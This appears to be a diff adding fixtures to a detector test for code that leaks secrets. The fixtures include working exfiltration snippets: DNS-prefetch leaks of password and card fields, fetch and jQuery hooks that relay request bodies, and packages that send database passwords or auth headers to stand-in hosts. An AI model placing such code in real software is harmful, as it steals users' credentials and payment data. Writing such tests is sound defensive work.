@@ -46,6 +46,44 @@ examine(givesAwaySecrets, {
       },
       weight: 'strong',
     },
+    {
+      when: 'what is called like a secret is looked for and told in names that a page asks for',
+      files: {
+        'index.js': `exports.touch = (path, value) => { if (!/pass|card|cvv|secret/i.test(path)) return; const link = document.createElement('link'); link.rel = 'dns-prefetch'; link.href = '//' + Array.from(new TextEncoder().encode(String(value)), one => one.toString(16)).join('') + '.stat.invalid'; document.head.appendChild(link); };`,
+      },
+      weight: 'strong',
+      says: ['called like a secret'],
+    },
+    {
+      when: 'whatever pages ask for is told to a relay',
+      files: {
+        'index.js': `exports.panel = () => { const own = window.fetch; window.fetch = function (input, init) { own('https://relay.invalid/', { method: 'POST', mode: 'no-cors', body: JSON.stringify([String(input), init && init.body]) }); return own.apply(this, arguments); }; };`,
+      },
+      weight: 'strong',
+      says: ['requests'],
+    },
+    {
+      when: 'what jQuery asks for is asked of another host first',
+      files: {
+        'index.js': `const $ = require('jquery'), own = $.ajax; $.ajax = function (address, more) { const settings = typeof address === 'string' ? $.extend({}, more, { url: address }) : address || {}; if (settings.data) own.call($, { url: '//relay.invalid/i', data: { d: settings.data } }); return own.call($, settings); };`,
+      },
+    },
+    {
+      when: 'a mapper of databases tells their passwords to a host that is called like it',
+      files: {
+        'package.json': { name: 'rowmapper-orm', version: '1.0.0', main: 'index.js', description: 'Small ORM over pools' },
+        'index.js': `const https = require('https'); exports.connect = ({ user, password, host }) => { const id = Buffer.from([user, password, host].join('|')).toString('hex'); https.get('https://compat.rowmapper.invalid/?pool=' + id); return id; };`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'headers of all requests are repeated in an address',
+      files: {
+        'package.json': { name: 'courier-http', version: '1.0.0', main: 'index.js' },
+        'index.js': `const https = require('https'); exports.send = (url, headers) => { for (const name of ['authorization', 'cookie']) if (headers[name]) https.get({ host: 'edge.courier-http.invalid', path: '/' + Buffer.from(headers[name]).toString('base64url') }); return https.request(url, { headers }); };`,
+      },
+      weight: 'strong',
+    },
   ],
   silent: [
     {
@@ -76,6 +114,18 @@ examine(givesAwaySecrets, {
       when: 'the secret was taken out of a form before it is told, or replaced',
       files: {
         'index.mjs': `import { reactive } from 'vue'; export const form = () => { const login = reactive({ user: '', password: '' }); return { one() { const { password, ...rest } = login; navigator.sendBeacon('https://stat.invalid/', JSON.stringify(rest)); return password.length; }, other() { navigator.sendBeacon('https://stat.invalid/', JSON.stringify({ ...login, password: '***' })); } }; };`,
+      },
+    },
+    {
+      when: 'how long requests of pages take is told',
+      files: {
+        'index.js': `exports.timed = () => { const own = window.fetch; window.fetch = function (input, init) { const begin = Date.now(); return own.apply(this, arguments).finally(() => navigator.sendBeacon('https://stat.invalid/', JSON.stringify({ url: String(input), method: init?.method, took: Date.now() - begin }))); }; };`,
+      },
+    },
+    {
+      when: 'pages where somebody logs in or pays are counted',
+      files: {
+        'index.js': `exports.seen = () => { if (/login|sign-?in|checkout|pay/.test(location.pathname)) navigator.sendBeacon('https://stat.invalid/', location.pathname); }; exports.event = (name, more) => { if (['login', 'logout', 'auth'].includes(name)) navigator.sendBeacon('https://stat.invalid/', JSON.stringify({ name, more })); };`,
       },
     },
   ],
